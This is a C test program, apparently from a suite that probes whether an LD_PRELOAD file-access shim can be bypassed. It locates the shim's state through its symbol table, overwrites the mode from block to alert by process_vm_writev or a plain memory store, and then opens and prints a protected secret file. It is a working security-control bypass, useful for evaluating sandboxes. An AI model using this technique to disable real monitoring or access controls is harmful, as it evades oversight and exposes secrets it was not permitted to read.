/*
 * modeflip.c — turn the shim's block mode into alert mode by writing its state.
 *
 * The library is not stripped: its .symtab names g_shim (struct shim_state, shim/state.h),
 * whose second member, after one pointer, is the mode (FS_MODE_ALERT = 0). The library's file
 * and load address come from dladdr() of the preloaded open().
 *
 *   modeflip pvw      process_vm_writev() on our own pid
 *   modeflip direct   a plain store (no system call at all)
 * Then read SECRET with open().
 */
#include "bypass.h"

#include <dlfcn.h>
#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/uio.h>

static uintptr_t symbol_value(const char *file, const char *name)
{
	int fd = open(file, O_RDONLY);
	struct stat st;
	if (fd < 0 || fstat(fd, &st) < 0)
		return 0;
	const unsigned char *m = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	close(fd);
	if (m == MAP_FAILED)
		return 0;
	const ElfW(Ehdr) *eh = (const void *)m;
	const ElfW(Shdr) *sh = (const void *)(m + eh->e_shoff);
	for (int i = 0; i < eh->e_shnum; i++) {
		if (sh[i].sh_type != SHT_SYMTAB)
			continue;
		const ElfW(Sym) *sym = (const void *)(m + sh[i].sh_offset);
		const char *str = (const char *)(m + sh[sh[i].sh_link].sh_offset);
		for (size_t k = 0; k < sh[i].sh_size / sizeof *sym; k++)
			if (!strcmp(str + sym[k].st_name, name))
				return (uintptr_t)sym[k].st_value;
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *op = argc > 1 ? argv[1] : "";
	const char *secret = target("BYPASS_SECRET");
	void *front = dlsym(RTLD_DEFAULT, "open");
	void *libc = dlopen("libc.so.6", RTLD_NOW | RTLD_NOLOAD);
	void *real = libc ? dlsym(libc, "open") : NULL;
	if (!front || !real)
		setup_fail("dlsym open");
	uintptr_t mode_addr = 0;
	if (front != real) {
		Dl_info info;
		if (!dladdr(front, &info) || !info.dli_fname)
			setup_fail("dladdr");
		uintptr_t v = symbol_value(info.dli_fname, "g_shim");
		if (!v) {
			say("SETUP-FAILED no g_shim in the .symtab of %s", info.dli_fname);
			return 3;
		}
		mode_addr = (uintptr_t)info.dli_fbase + v + sizeof(void *);
	}
	int alert = 0;
	if (!strcmp(op, "pvw")) {
		ATTEMPT("process_vm_writev(self) mode := alert at %#lx", (unsigned long)mode_addr);
		if (mode_addr) {
			struct iovec local = {&alert, sizeof alert};
			struct iovec remote = {(void *)mode_addr, sizeof alert};
			if (process_vm_writev(getpid(), &local, 1, &remote, 1, 0) < 0) {
				DONE("process_vm_writev refused errno=%d", errno);
				return 0;
			}
		}
	} else if (!strcmp(op, "direct")) {
		ATTEMPT("store mode := alert at %#lx", (unsigned long)mode_addr);
		if (mode_addr)
			*(volatile int *)mode_addr = alert;
	} else {
		fprintf(stderr, "modeflip: unknown op %s\n", op);
		return 3;
	}
	int fd = open(secret, O_RDONLY);
	if (fd < 0) {
		DONE("open secret refused errno=%d", errno);
		return 0;
	}
	show_fd(fd);
	DONE("opened and read");
	return 0;
}
